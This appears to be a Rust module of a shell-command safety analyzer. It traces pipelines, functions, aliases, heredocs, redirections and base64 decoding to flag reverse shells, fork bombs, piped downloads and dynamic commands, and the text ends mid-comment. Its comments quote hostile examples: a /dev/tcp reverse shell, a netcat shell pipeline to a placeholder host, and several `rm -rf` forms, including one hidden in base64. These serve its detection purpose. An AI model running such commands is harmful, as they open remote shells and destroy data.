//! The tree walker: follows a parsed command line node by node — lists, pipelines (what
//! each stage feeds the next), groups, functions, redirections, substitutions, variables
//! assigned a literal — and hands every simple command to [`Analyzer::exec`], which
//! dispatches it to the wrapper or effect code that knows its program.

use super::parse::{self, Node, RedirOp, Simple, Word};
use super::programs::{
    self, lookup, wrapper_named, AT_PROGRAMS, COMMAND_ENV_VARS, CONTAINER_TOOLS, DEBUGGERS,
    DECLARERS, DECODERS, ENV_SETUP_TOOLS, FD_PROGRAMS, HARMLESS_DEVICES, HARMLESS_DEVICE_DIRS,
    HELP_OF_WRAPPED, MAKES, OPERAND_SCRIPTS, PAGERS, PASS_THROUGH, REMOTE_SHELLS, RUNNERS,
    RUNNER_SUBCOMMANDS, SEDS, SHELLS, SQL_CLIENTS, SQL_FILE_OPTS, TRAP, VIM_PROGRAMS,
};
use super::{basename, effects, lit, reads, wrappers, Analyzer, Input, MAX_COMMANDS};
use crate::signals::egress::{self, StdinKind, DOWNLOADERS};
use crate::signals::Flag;
use serde_json::Value;
use std::collections::HashMap;
use std::path::PathBuf;

/// What a command line defines for the commands after it, beyond literal variables and the
/// cwd: aliases, functions (bodies, run again when called with their arguments), the names
/// it assigns, git aliases, config and remotes, and the mounts of a container being entered.
#[derive(Debug, Default, Clone)]
pub(super) struct ShellState {
    pub aliases: HashMap<String, String>,
    pub functions: HashMap<String, Node>,
    /// Functions and aliases being expanded (a definition calling itself is not followed).
    pub calling: Vec<String>,
    /// The arguments of the function being expanded (`$1`, `$@`).
    pub positional: Option<Vec<String>>,
    /// Every variable name the command line assigns, with a literal or not.
    pub assigned: Vec<String>,
    pub git_aliases: HashMap<String, String>,
    /// `git config` settings that change what a later git command does (`remote.*.push`).
    pub git_config: Vec<(String, String)>,
    pub git_remotes: HashMap<String, String>,
    /// Inside `docker run`: the container's bind mounts and workdir.
    pub mounts: Option<Mounts>,
}

/// The host paths a fresh container sees: `(container path, host path or volume)`.
#[derive(Debug, Default, Clone)]
pub(super) struct Mounts {
    pub binds: Vec<(String, String)>,
    pub workdir: String,
}

/// What a subshell may change and must not leak: the cwd, variables, aliases, functions.
struct Scope {
    cwd: Option<PathBuf>,
    vars: HashMap<String, String>,
    funcs: Vec<String>,
    aliases: HashMap<String, String>,
    functions: HashMap<String, Node>,
}

impl Analyzer<'_> {
    pub(super) fn node(&mut self, n: &Node, via: &[String], input: &Input, depth: usize) {
        if !self.budget.step() {
            return;
        }
        match n {
            Node::Simple(s) => self.simple(s, via, input, depth),
            Node::Pipeline(stages) => {
                // Every stage of a pipeline runs in a subshell.
                let scope = self.enter();
                self.reverse_shell_pipeline(stages);
                let mut prev = input.clone();
                for (i, st) in stages.iter().enumerate() {
                    let inp = if i == 0 {
                        input.clone()
                    } else {
                        carried(self.source_of(&stages[i - 1]), &prev)
                    };
                    self.node(st, via, &inp, depth);
                    prev = inp;
                }
                self.leave(scope);
            }
            Node::List(v) => {
                for n in v {
                    self.node(n, via, input, depth);
                }
            }
            Node::Group(body, redirs) => {
                let inp = self
                    .redirections(redirs, "(group)")
                    .unwrap_or_else(|| input.clone());
                self.node(body, via, &inp, depth);
            }
            Node::Subshell(body, redirs) => {
                let inp = self
                    .redirections(redirs, "(subshell)")
                    .unwrap_or_else(|| input.clone());
                let scope = self.enter();
                self.node(body, via, &inp, depth);
                self.leave(scope);
            }
            Node::Function(name, body) => {
                self.funcs.push(name.clone());
                self.state
                    .functions
                    .insert(name.clone(), body.as_ref().clone());
                if calls_itself_in_pipeline(name, body) {
                    self.out.push(
                        Flag::new("shell.fork_bomb")
                            .detail(format!("function `{name}` pipes into itself")),
                    );
                }
                let mut v = via.to_vec();
                v.push(format!("function {name}"));
                self.node(body, &v, &Input::None, depth);
            }
        }
    }

    /// Saves what a subshell may change.
    fn enter(&self) -> Scope {
        Scope {
            cwd: self.cwd.clone(),
            vars: self.vars.clone(),
            funcs: self.funcs.clone(),
            aliases: self.state.aliases.clone(),
            functions: self.state.functions.clone(),
        }
    }

    /// Restores it when the subshell ends.
    fn leave(&mut self, s: Scope) {
        self.cwd = s.cwd;
        self.vars = s.vars;
        self.funcs = s.funcs;
        self.state.aliases = s.aliases;
        self.state.functions = s.functions;
    }

    /// What a pipeline stage produces on stdout, for the next stage.
    pub(super) fn source_of(&self, n: &Node) -> Input {
        match n {
            Node::Simple(s) => {
                let words: Vec<&Word> = s.words.iter().collect();
                let argv = strip_wrappers(&words);
                let Some(first) = argv.first() else {
                    return Input::Other(String::new());
                };
                if first.dynamic {
                    return Input::Decoded(first.text.clone());
                }
                let prog = basename(&first.text);
                let args: Vec<String> = argv[1..].iter().map(|w| w.text.clone()).collect();
                match prog {
                    "echo" | "printf" => {
                        // Expansions stay as written: the text is still readable as code.
                        let args: Vec<&str> = args.iter().map(|s| s.as_str()).collect();
                        let text = if prog == "printf" {
                            printf_output(&args).unwrap_or_else(|| args.join(" "))
                        } else {
                            echo_output(&args)
                        };
                        Input::Literal(text)
                    }
                    p if DOWNLOADERS.contains(&p) => {
                        let mut tmp = Vec::new();
                        let mut reads = Vec::new();
                        let facts = egress::analyze_command(
                            p,
                            &args,
                            StdinKind::None,
                            "",
                            self.ctx,
                            &mut tmp,
                            &mut reads,
                        );
                        let mut hosts = facts.hosts;
                        if hosts.is_empty() {
                            hosts.push("(unknown)".into());
                        }
                        Input::Download(hosts)
                    }
                    // `base64 -d` of a known text is a known text.
                    "base64"
                        if args
                            .iter()
                            .any(|a| matches!(a.as_str(), "-d" | "-D" | "--decode" | "-di")) =>
                    {
                        let own = s.redirs.iter().rev().find_map(|r| match r.op {
                            RedirOp::HereDoc | RedirOp::HereString => r.body.as_deref(),
                            _ => None,
                        });
                        base64_output(own)
                    }
                    p if DECODERS.contains(&p) => Input::Decoded(p.to_string()),
                    "cat" => match args.iter().find(|a| !a.starts_with('-')) {
                        Some(f) => Input::File(f.clone()),
                        // `cat <<EOF | sh`: the heredoc is what flows on.
                        None => s
                            .redirs
                            .iter()
                            .rev()
                            .find_map(|r| match r.op {
                                RedirOp::HereDoc | RedirOp::HereString => {
                                    Some(Input::Text(r.body.clone().unwrap_or_default()))
                                }
                                RedirOp::In => Some(Input::File(r.target.text.clone())),
                                _ => None,
                            })
                            .unwrap_or(Input::Other("cat".into())),
                    },
                    "find" => Input::Find(reads::find_reach(&wrappers::find_roots(&args), &args)),
                    "fd" => Input::Find(wrappers::find_roots(&args)),
                    p => Input::Other(p.to_string()),
                }
            }
            Node::Pipeline(v) | Node::List(v) => v
                .last()
                .map(|n| self.source_of(n))
                .unwrap_or(Input::Other(String::new())),
            Node::Group(b, _) | Node::Subshell(b, _) => self.source_of(b),
            Node::Function(..) => Input::Other(String::new()),
        }
    }

    /// Raises file flags for redirections; returns the stdin they set, if any.
    pub(super) fn redirections(&mut self, redirs: &[parse::Redir], text: &str) -> Option<Input> {
        let mut input = None;
        for r in redirs {
            for sub in &r.target.subs {
                self.node(sub, &["redirection".to_string()], &Input::None, 1);
            }
            let t = r.target.text.as_str();
            let dev_ok = HARMLESS_DEVICES.contains(&t)
                || HARMLESS_DEVICE_DIRS.iter().any(|d| t.starts_with(d));
            match r.op {
                RedirOp::HereDoc | RedirOp::HereString => {
                    input = Some(self.here_input(r));
                }
                RedirOp::In | RedirOp::ReadWrite if !r.target.procsub => {
                    if let Some(host) = effects::dev_net_host(t) {
                        // `<>` both reads and sends.
                        let name = if r.op == RedirOp::ReadWrite {
                            "net.upload"
                        } else {
                            "net.download"
                        };
                        self.out
                            .push(Flag::new(name).detail(text).hosts(vec![host]));
                    } else if !dev_ok {
                        self.out.push(
                            Flag::new("file.read")
                                .detail(text)
                                .paths(vec![self.fact(t)]),
                        );
                    }
                    input = Some(Input::File(t.to_string()));
                    if r.op == RedirOp::ReadWrite && !dev_ok {
                        self.out.push(
                            Flag::new("file.write")
                                .detail(text)
                                .paths(vec![self.fact(t)]),
                        );
                    }
                }
                RedirOp::Out | RedirOp::Append if !r.target.procsub => {
                    if let Some(host) = effects::dev_net_host(t) {
                        self.out
                            .push(Flag::new("net.upload").detail(text).hosts(vec![host]));
                    } else if effects::is_block_device(t) {
                        self.out.push(
                            Flag::new("shell.disk_write")
                                .detail(text)
                                .attr("kind", "redirect")
                                .paths(vec![self.fact(t)]),
                        );
                    } else if !dev_ok
                        && !t.is_empty()
                        && (r.op != RedirOp::Out
                            || !t.chars().all(|c| c.is_ascii_digit() || c == '-'))
                    {
                        self.out.push(
                            Flag::new("file.write")
                                .detail(text)
                                .paths(vec![self.fact(t)]),
                        );
                    }
                }
                _ => {}
            }
        }
        input
    }

    pub(super) fn simple(&mut self, s: &Simple, via: &[String], input: &Input, depth: usize) {
        let mut sub_via = via.to_vec();
        sub_via.push("$()".into());
        for w in s.assigns.iter().map(|a| &a.1).chain(s.words.iter()) {
            for sub in &w.subs {
                let mut v = via.to_vec();
                v.push(if w.procsub {
                    "<()".into()
                } else {
                    "$()".into()
                });
                // A substitution runs in a subshell.
                let scope = self.enter();
                self.node(sub, &v, &Input::None, depth);
                self.leave(scope);
            }
        }
        for (name, value) in &s.assigns {
            self.assign(name, value, &s.text, via, depth);
        }
        let redirected = self.redirections(&s.redirs, &s.text);
        if s.words.is_empty() {
            return;
        }
        self.shell_on_socket(s);
        let input = redirected.unwrap_or_else(|| input.clone());
        let argv: Vec<Word> = s.words.clone();
        self.exec(&argv, via, &input, &s.text, &[], depth);
        self.record_tee(&s.words, &input);
        // `curl -s URL > install.sh`: the redirection target holds the download.
        let words: Vec<&Word> = s.words.iter().collect();
        let stripped = strip_wrappers(&words);
        // `echo 'rm -rf /' > x.sh`, `cat > x.sh <<EOF`: the file holds that text.
        if let Some(content) = literal_output(&Node::Simple(Simple {
            redirs: Vec::new(),
            ..s.clone()
        }))
        .or_else(|| {
            (s.words.len() == 1 && s.words[0].text == "cat")
                .then(|| {
                    s.redirs.iter().find_map(|r| match r.op {
                        RedirOp::HereDoc | RedirOp::HereString => r.body.clone(),
                        _ => None,
                    })
                })
                .flatten()
        }) {
            for r in &s.redirs {
                if matches!(r.op, RedirOp::Out | RedirOp::Append) && !r.target.dynamic {
                    let resolved = self.fact(&r.target.text).resolved;
                    self.written.push((resolved, content.clone()));
                }
            }
        }
        if let Some(first) = stripped.first() {
            let prog = basename(&first.text);
            if DOWNLOADERS.contains(&prog) {
                let outs: Vec<String> = s
                    .redirs
                    .iter()
                    .filter(|r| matches!(r.op, RedirOp::Out | RedirOp::Append))
                    .map(|r| r.target.text.clone())
                    .filter(|t| !t.is_empty() && !t.starts_with("/dev/"))
                    .collect();
                if !outs.is_empty() {
                    let args: Vec<String> = stripped[1..].iter().map(|w| w.text.clone()).collect();
                    self.record_fetch(prog, &args, &outs);
                }
            }
        }
    }

    /// The text of a word whose expansions are all known here: variables assigned a literal
    /// earlier, and `$(echo …)` / `$(printf …)` of literals.
    pub(super) fn static_text(&self, w: &Word) -> Option<String> {
        let mut outputs = w.subs.iter().map(literal_output);
        let mut text = String::new();
        let mut rest = w.text.as_str();
        while let Some(i) = rest.find('$') {
            text.push_str(&rest[..i]);
            rest = &rest[i..];
            if let Some(r) = rest.strip_prefix(parse::SUBST) {
                text.push_str(&outputs.next()??);
                rest = r;
                continue;
            }
            let (name, r) = if let Some(b) = rest.strip_prefix("${") {
                let end = b.find('}')?;
                (&b[..end], &b[end + 1..])
            } else if rest[1..].starts_with(['@', '*']) {
                (&rest[1..2], &rest[2..])
            } else {
                let b = &rest[1..];
                let end = b
                    .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                    .unwrap_or(b.len());
                (&b[..end], &b[end..])
            };
            if let Some(v) = self.positional(name) {
                text.push_str(&v);
                rest = r;
                continue;
            }
            if !parse_is_name(name) {
                return None;
            }
            text.push_str(self.vars.get(name)?);
            rest = r;
        }
        text.push_str(rest);
        if text.is_empty() || text.contains('`') {
            return None;
        }
        Some(text)
    }

    /// Parses a string as shell code and walks it.
    pub(super) fn run_script(
        &mut self,
        code: &str,
        via: &[String],
        label: String,
        input: &Input,
        depth: usize,
    ) {
        if depth + 1 >= self.budget.max_depth {
            self.budget.limit.get_or_insert("depth");
            return;
        }
        let tree = parse::parse(code, &mut self.budget, depth + 1);
        let mut v = via.to_vec();
        v.push(label);
        self.node(&tree, &v, input, depth + 1);
    }

    pub(super) fn push_exec(
        &mut self,
        program: &str,
        args: &[String],
        via: &[String],
        text: &str,
        extra: Option<(&str, Value)>,
    ) {
        let mut f = Flag::new("shell.exec")
            .detail(text)
            .attr("program", program)
            .attr(
                "args",
                Value::Array(args.iter().map(|a| Value::String(a.clone())).collect()),
            )
            .attr(
                "via",
                Value::Array(via.iter().map(|a| Value::String(a.clone())).collect()),
            );
        if let Some(sub) = effects::subcommand(program, args) {
            f = f.attr("subcommand", sub);
        }
        if let Some((k, v)) = extra {
            f = f.attr(k, v);
        }
        self.out.push(f);
    }

    /// One simple command's argv (after assignments and redirections).
    pub(super) fn exec(
        &mut self,
        argv: &[Word],
        via: &[String],
        input: &Input,
        text: &str,
        fill: &[String],
        depth: usize,
    ) {
        if !self.budget.step() || argv.is_empty() {
            return;
        }
        self.execs += 1;
        if self.execs > MAX_COMMANDS {
            self.budget.limit.get_or_insert("work");
            return;
        }
        // `{rm,-rf,~}`, `cp f{,.bak}`: brace expansion comes first.
        if let Some(expanded) = expand_braces(argv) {
            return self.exec(&expanded, via, input, text, fill, depth);
        }
        if self.alias(argv, via, input, text, fill, depth) {
            return;
        }
        let first = &argv[0];
        if first.dynamic && matches!(first.text.as_str(), "$@" | "${@}" | "$*" | "${*}") {
            // `set -- rm -rf ~; "$@"`: the positional parameters are the command.
            if let Some(args) = self.state.positional.clone() {
                let mut words: Vec<Word> = args.iter().map(|a| lit(a)).collect();
                words.extend(argv[1..].iter().cloned());
                if !words.is_empty() {
                    return self.exec(&words, via, input, text, fill, depth);
                }
            }
        }
        if first.dynamic {
            // `$a$b`, `"$(echo rm)"`: built only from literals known here.
            if let Some(t) = self.static_text(first) {
                let mut words = vec![lit(&t)];
                if !first.quoted && t.contains(' ') {
                    words = t.split_whitespace().map(lit).collect();
                }
                words.extend(argv[1..].iter().cloned());
                return self.exec(&words, via, input, text, fill, depth);
            }
            // A variable assigned a literal earlier is known.
            let name = first
                .text
                .trim_start_matches('$')
                .trim_start_matches('{')
                .trim_end_matches('}');
            if first.subs.is_empty() && parse_is_name(name) {
                if let Some(v) = self.vars.get(name).cloned() {
                    let mut words = vec![lit(&v)];
                    // `CMD="rm -rf"; $CMD x`: unquoted expansion splits.
                    if !first.quoted && v.contains(' ') {
                        words = v.split_whitespace().map(lit).collect();
                    }
                    words.extend(argv[1..].iter().cloned());
                    return self.exec(&words, via, input, text, fill, depth);
                }
            }
            // `$HOME/bin/tool`, `$(pwd)/run.sh`: the program name itself is static.
            let base = basename(&first.text);
            if !(first.text.contains('/')
                && !base.contains('$')
                && !base.is_empty()
                && !base.contains('`'))
            {
                let args: Vec<String> = argv[1..].iter().map(|w| w.text.clone()).collect();
                self.push_exec(&first.text, &args, via, text, None);
                let hosts = downloads_in(&first.subs);
                if !hosts.is_empty() {
                    self.out.push(
                        Flag::new("shell.pipe_to_shell")
                            .detail(text)
                            .hosts(hosts)
                            .attr("via", "command substitution"),
                    );
                }
                self.out.push(
                    Flag::new("shell.dynamic_command")
                        .detail(text)
                        .attr("program", first.text.clone())
                        .attr("source", "expansion"),
                );
                return;
            }
        }
        if first.text.contains('/') {
            self.run_fetched(&first.text, "exec", text);
        }
        let program = basename(&first.text).to_string();
        // `X=/; rm -rf $X`, `tmp=$(mktemp -d); rm -rf "$tmp"`: arguments built from values
        // known here are those values.
        let resolved: Vec<Word>;
        let words = if argv[1..].iter().any(|w| w.dynamic) {
            resolved = argv[1..]
                .iter()
                .flat_map(|w| {
                    // `"$@"` in a function being expanded: each argument is a word.
                    if matches!(w.text.as_str(), "$@" | "$*") {
                        if let Some(args) = &self.state.positional {
                            return args.iter().map(|a| lit(a)).collect::<Vec<_>>();
                        }
                    }
                    vec![match (w.dynamic, self.static_text(w)) {
                        (true, Some(t)) => Word {
                            text: t,
                            dynamic: false,
                            quoted: w.quoted,
                            subs: w.subs.clone(),
                            procsub: w.procsub,
                        },
                        _ => w.clone(),
                    }]
                })
                .collect();
            &resolved[..]
        } else {
            &argv[1..]
        };
        let args: Vec<String> = words.iter().map(|w| w.text.clone()).collect();
        if args.iter().any(|a| a == "--help") && !HELP_OF_WRAPPED.contains(&program.as_str()) {
            // Help output only: the command does nothing else.
            self.push_exec(
                &program,
                &["--help".to_string()],
                via,
                text,
                Some(("help", Value::Bool(true))),
            );
            return;
        }
        self.push_exec(&program, &args, via, text, None);
        if self.funcs.contains(&program) {
            self.call_function(&program, &args, via, input, depth);
            return;
        }
        // A file this command line wrote with literal text, fed to stdin, is that text.
        let written_input;
        let input = match self.written_input(&program, &args, input) {
            Some(i) => {
                written_input = i;
                &written_input
            }
            None => input,
        };
        self.command_opts(&program, &args, via, depth);
        self.operand_reads(&program, &reads::with_fill(&args, fill), text);
        if let Some(w) = programs::wrapper_named(&program) {
            return self.wrapper(w, words, &args, via, input, text, fill, depth);
        }
        match program.as_str() {
            "su" => self.su(&args, via, depth),
            "watch" => self.watch(words, via, input, text, fill, depth),
            p if REMOTE_SHELLS.contains(&p) => self.remote_shell(words, via, input, text, depth),
            "eval" => self.eval(words, via, text, depth),
            "source" | "." => self.source(words, via, input, text, depth),
            "alias" => self.define_aliases(&args),
            p if DECLARERS.contains(&p) => self.declare(words, text, via, depth),
            p if p == TRAP => self.trap(&args, via, depth),
            "tmux" => self.tmux(&args, via, depth),
            "screen" => self.screen(words, via, input, text, depth),
            p if AT_PROGRAMS.contains(&p) => self.at(&args, via, input, text, depth),
            p if lookup(OPERAND_SCRIPTS, p).is_some() => self.operand_scripts(p, &args, via, depth),
            "git" => {
                if !self.git(words, &args, via, input, text, fill, depth) {
                    self.program(&program, words, &args, via, input, text, fill, depth);
                }
            }
            p if MAKES.contains(&p) => {
                self.make(&args, input, via, text, depth);
                self.program(&program, words, &args, via, input, text, fill, depth);
            }
            p if SEDS.contains(&p) => {
                self.sed(&args, via, text, depth);
                self.program(&program, words, &args, via, input, text, fill, depth);
            }
            p if lookup(DEBUGGERS, p).is_some() => {
                self.debugger_commands(p, &args, via, text, depth);
                self.program(&program, words, &args, via, input, text, fill, depth);
            }
            p if VIM_PROGRAMS.contains(&p) || PAGERS.contains(&p) => {
                self.editor_commands(p, &args, via, depth);
                self.program(&program, words, &args, via, input, text, fill, depth);
            }
            // `set -- a b c` (or `set a b c`): the positional parameters from here on.
            "set" => {
                let start = match args.iter().position(|a| a == "--") {
                    Some(i) => Some(i + 1),
                    None => args
                        .first()
                        .filter(|a| !a.starts_with(['-', '+']))
                        .map(|_| 0),
                };
                if let Some(i) = start {
                    self.state.positional = Some(args[i..].to_vec());
                }
                self.program(&program, words, &args, via, input, text, fill, depth);
            }
            "xargs" => self.xargs(words, via, input, text, depth),
            "find" => self.find(&args, words, via, text, depth),
            p if FD_PROGRAMS.contains(&p) => self.fd(&args, words, via, text, depth),
            "parallel" => self.parallel(&args, words, via, text, depth),
            p if RUNNERS.contains(&p)
                && args
                    .first()
                    .is_some_and(|a| RUNNER_SUBCOMMANDS.contains(&a.as_str())) =>
            {
                self.runner(&program, words, &args, via, input, text, fill, depth)
            }
            p if programs::exec_subcommand(p, &args).is_some() => {
                self.exec_subcommand(&program, words, &args, via, input, text, fill, depth);
                self.program(&program, words, &args, via, input, text, fill, depth);
            }
            p if CONTAINER_TOOLS.contains(&p) => {
                self.container_exec(&program, words, via, input, text, depth)
            }
            p if SHELLS.contains(&p) => self.shell(&program, words, via, input, text, depth),
            _ => {
                self.program(&program, words, &args, via, input, text, fill, depth);
                self.guess(&program, words, &args, via, text, depth);
            }
        }
    }

    /// The value of a positional parameter of the function being expanded.
    fn positional(&self, name: &str) -> Option<String> {
        let args = self.state.positional.as_ref()?;
        match name {
            "@" | "*" => Some(args.join(" ")),
            n if !n.is_empty() && n.chars().all(|c| c.is_ascii_digit()) => {
                let i: usize = n.parse().ok()?;
                Some(args.get(i.checked_sub(1)?).cloned().unwrap_or_default())
            }
            _ => None,
        }
    }

    /// A call of a function this command line defined: its body runs with these arguments.
    fn call_function(
        &mut self,
        name: &str,
        args: &[String],
        via: &[String],
        input: &Input,
        depth: usize,
    ) {
        let Some(body) = self.state.functions.get(name).cloned() else {
            return;
        };
        if self.state.calling.iter().any(|c| c == name) || depth + 2 >= self.budget.max_depth {
            return;
        }
        let saved = self.state.positional.replace(args.to_vec());
        self.state.calling.push(name.to_string());
        let mut v = via.to_vec();
        v.push(format!("function {name}"));
        self.node(&body, &v, input, depth + 1);
        self.state.calling.pop();
        self.state.positional = saved;
    }

    /// `NAME=value` before a command or alone: the variable is known when the value is.
    fn assign(&mut self, name: &str, value: &Word, text: &str, via: &[String], depth: usize) {
        self.state.assigned.push(name.to_string());
        if value.text == parse::SUBST && value.subs.first().is_some_and(is_mktemp) {
            // `tmp=$(mktemp -d)`: a fresh path under the temp dir.
            self.vars.insert(name.to_string(), "/tmp/(mktemp)".into());
        } else if value.dynamic {
            match self.static_text(value) {
                Some(t) => {
                    self.vars.insert(name.to_string(), t);
                }
                None => {
                    self.vars.remove(name);
                }
            }
        } else {
            self.vars.insert(name.to_string(), value.text.clone());
        }
        if COMMAND_ENV_VARS.contains(&name) {
            // `GIT_SSH_COMMAND='…' git fetch`: the value runs as a command line.
            let v = self
                .static_text(value)
                .unwrap_or_else(|| value.text.clone());
            let v = v.trim_start_matches('|').to_string();
            self.run_script(&v, via, format!("${name}"), &Input::None, depth);
        }
        // `GOPROXY=https://host go get …`, `export PIP_INDEX_URL=…`: packages from that index.
        let v = self
            .static_text(value)
            .unwrap_or_else(|| value.text.clone());
        egress::index_variable(name, &v, text, &mut self.out);
    }

    /// `export NAME=value`, `declare -x NAME=value`: assignments as operands.
    pub(super) fn declare(&mut self, words: &[Word], text: &str, via: &[String], depth: usize) {
        for w in words {
            if w.text.starts_with('-') {
                continue;
            }
            let Some((name, value)) = w.text.split_once('=') else {
                continue;
            };
            if !parse_is_name(name) {
                continue;
            }
            let value = Word {
                text: value.to_string(),
                ..w.clone()
            };
            self.assign(name, &value, text, via, depth);
        }
    }

    /// `alias NAME=VALUE …`: later commands named NAME run VALUE.
    fn define_aliases(&mut self, args: &[String]) {
        for a in args {
            if let Some((name, value)) = a.split_once('=') {
                if !name.is_empty() && !name.starts_with('-') {
                    self.state
                        .aliases
                        .insert(name.to_string(), value.to_string());
                }
            }
        }
    }

    /// Expands an alias this command line defined in command position; true when it did.
    fn alias(
        &mut self,
        argv: &[Word],
        via: &[String],
        input: &Input,
        text: &str,
        fill: &[String],
        depth: usize,
    ) -> bool {
        let first = &argv[0];
        if first.quoted || first.dynamic || self.state.aliases.is_empty() {
            return false;
        }
        let Some(value) = self.state.aliases.get(&first.text).cloned() else {
            return false;
        };
        let key = format!("alias {}", first.text);
        if self.state.calling.contains(&key) || depth + 2 >= self.budget.max_depth {
            return false;
        }
        self.state.calling.push(key.clone());
        let mut v = via.to_vec();
        v.push(key);
        let tree = parse::parse(&value, &mut self.budget, depth + 1);
        match tree {
            Node::Simple(s) if s.redirs.is_empty() && s.assigns.is_empty() => {
                let mut words = s.words;
                words.extend(argv[1..].iter().cloned());
                self.exec(&words, &v, input, text, fill, depth + 1);
            }
            _ => {
                let line = format!("{value} {}", join_words(&argv[1..]));
                self.run_script(&line, &v, "alias".into(), input, depth);
            }
        }
        self.state.calling.pop();
        true
    }

    /// `trap 'CMD' SIGNAL…`: the command runs later in this shell.
    fn trap(&mut self, args: &[String], via: &[String], depth: usize) {
        let args: Vec<&String> = args.iter().skip_while(|a| *a == "--").collect();
        if let [cmd, _, ..] = args.as_slice() {
            if !cmd.starts_with('-') {
                let cmd = (*cmd).clone();
                self.run_script(&cmd, via, "trap".into(), &Input::None, depth);
            }
        }
    }

    /// Programs whose operands are each a command line (`hyperfine 'a' 'b'`).
    fn operand_scripts(&mut self, program: &str, args: &[String], via: &[String], depth: usize) {
        let value_opts = lookup(OPERAND_SCRIPTS, program).unwrap_or(&[]);
        let mut i = 0;
        while i < args.len() {
            let a = &args[i];
            if a.starts_with('-') {
                if value_opts.contains(&a.as_str()) {
                    i += 1;
                }
            } else {
                let a = a.clone();
                self.run_script(&a, via, program.to_string(), &Input::None, depth);
            }
            i += 1;
        }
    }

    /// Stdin a program reads from a file this command line wrote with literal text (`bash <
    /// x.sh`, `psql -f x.sql`, `mysql < x.sql`): that text.
    fn written_input(&self, program: &str, args: &[String], input: &Input) -> Option<Input> {
        if self.written.is_empty() {
            return None;
        }
        let body_of = |f: &str| {
            let resolved = self.fact(f).resolved;
            self.written
                .iter()
                .rev()
                .find(|(p, _)| *p == resolved)
                .map(|(_, b)| Input::Text(b.clone()))
        };
        if SQL_CLIENTS.iter().any(|c| c.name == program) {
            for (i, a) in args.iter().enumerate() {
                let file = if SQL_FILE_OPTS.contains(&a.as_str()) {
                    args.get(i + 1).map(|s| s.as_str())
                } else {
                    a.split_once('=')
                        .filter(|(k, _)| SQL_FILE_OPTS.contains(k))
                        .map(|(_, v)| v)
                };
                if let Some(t) = file.and_then(body_of) {
                    return Some(t);
                }
            }
        }
        match input {
            Input::File(f) => body_of(f),
            _ => None,
        }
    }

    /// What a heredoc or here-string feeds: its text, or a download when it expands one.
    fn here_input(&mut self, r: &parse::Redir) -> Input {
        let body = r.body.clone().unwrap_or_default();
        let mut hosts = downloads_in(&r.target.subs);
        if hosts.is_empty()
            && r.op == RedirOp::HereDoc
            && r.target.dynamic
            && (body.contains("$(") || body.contains('`'))
        {
            let subs = parse::parse_words_subs(&body, &mut self.budget, 1);
            collect_downloads(&subs, &mut hosts, 0);
        }
        if hosts.is_empty() {
            Input::Text(body)
        } else {
            Input::Download(hosts)
        }
    }

    /// `echo 'cmd' | tee x.sh`: the files tee writes hold the literal text it is fed.
    fn record_tee(&mut self, words: &[Word], input: &Input) {
        let (Input::Literal(body) | Input::Text(body)) = input else {
            return;
        };
        let refs: Vec<&Word> = words.iter().collect();
        let argv = strip_wrappers(&refs);
        if argv.first().map(|w| basename(&w.text)) != Some("tee") {
            return;
        }
        for w in &argv[1..] {
            if !w.text.starts_with('-') && !w.dynamic && !w.text.starts_with("/dev/") {
                let resolved = self.fact(&w.text).resolved;
                self.written.push((resolved, body.clone()));
            }
        }
    }

    /// `bash -i >& /dev/tcp/HOST/PORT 0>&1`: a shell whose input or output is a connection.
    fn shell_on_socket(&mut self, s: &Simple) {
        let hosts: Vec<String> = s
            .redirs
            .iter()
            .filter_map(|r| effects::dev_net_host(&r.target.text))
            .collect();
        if hosts.is_empty() {
            return;
        }
        let refs: Vec<&Word> = s.words.iter().collect();
        let argv = strip_wrappers(&refs);
        let Some(first) = argv.first() else { return };
        let p = basename(&first.text);
        if SHELLS.contains(&p) || super::code::interpreter(p).is_some() {
            self.out.push(
                Flag::new("net.reverse_shell")
                    .detail(s.text.clone())
                    .hosts(hosts)
                    .attr("program", p),
            );
        }
    }

    /// `cat f | sh -i 2>&1 | nc HOST PORT > f`: a shell reading its input from, and writing
    /// its output to, a network connection.
    fn reverse_shell_pipeline(&mut self, stages: &[Node]) {
        if stages.len() < 2 {
            return;
        }
        let head = |n: &Node| -> Option<(String, Vec<String>)> {
            let Node::Simple(s) = n else { return None };
            let refs: Vec<&Word> = s.words.iter().collect();
            let argv = strip_wrappers(&refs);
            let first = argv.first()?;
            Some((
                basename(&first.text).to_string(),
                argv[1..].iter().map(|w| w.text.clone()).collect(),
            ))
        };
        let heads: Vec<(String, Vec<String>)> = stages.iter().filter_map(head).collect();
        let shell_on_stdin = heads.iter().any(|(p, a)| {
            SHELLS.contains(&p.as_str())
                && !a.iter().any(|x| x.starts_with('-') && x.contains('c'))
                && a.iter().all(|x| x.starts_with('-'))
        });
        if !shell_on_stdin {
            return;
        }
        for (p, a) in &heads {
            if let Some(hosts) = egress::connection_hosts(p, a) {
                self.out.push(
                    Flag::new("net.reverse_shell")
                        .detail(format!("a shell piped through `{p}`"))
                        .hosts(hosts)
                        .attr("program", p.clone()),
                );
                return;
            }
        }
    }
}

/// What a pipeline stage passes on when it only filters its input: content downloaded
/// and then decoded, decompressed or copied (`tee`) is still the download.
pub(super) fn carried(out: Input, prev_in: &Input) -> Input {
    match (&out, prev_in) {
        // `echo cm0gLXJmIH4K | base64 -d`: the decoded text, read like any literal by a shell.
        (Input::Decoded(p), Input::Literal(t) | Input::Text(t)) if p == BASE64_DECODE => {
            base64_output(Some(t))
        }
        (Input::Decoded(_), Input::Download(h)) => Input::Download(h.clone()),
        (Input::Other(p), Input::Download(h)) if PASS_THROUGH.contains(&p.as_str()) => {
            Input::Download(h.clone())
        }
        _ => out,
    }
}

/// How `source_of` names the output of `base64 -d` of a text it does not know yet.
pub(super) const BASE64_DECODE: &str = "base64 -d";

/// What `base64 -d` puts out of `known` text: the decoded text when it is code, otherwise (or
/// for input not known here) something unknowable.
fn base64_output(known: Option<&str>) -> Input {
    known
        .and_then(super::code::base64_text)
        .map(Input::Unveiled)
        .unwrap_or_else(|| Input::Decoded(BASE64_DECODE.into()))
}

/// `$(mktemp …)` without a directory of its own.
pub(super) fn is_mktemp(n: &Node) -> bool {
    let Node::Simple(s) = n else {
        return false;
    };
    s.words
        .first()
        .is_some_and(|w| basename(&w.text) == "mktemp")
        && !s.words.iter().any(|w| {
            w.dynamic || w.text == "-p" || w.text.starts_with("--tmpdir=") || w.text.contains('/')
        })
}

/// The output of a command of literal words whose output is known: `echo` and `printf`, and
/// the commands that print the names they are given, a path or a program's (`realpath P`,
/// `readlink -f P`, `ls P`, `which rm`, `command -v rm`, `type -P rm`), and git's object
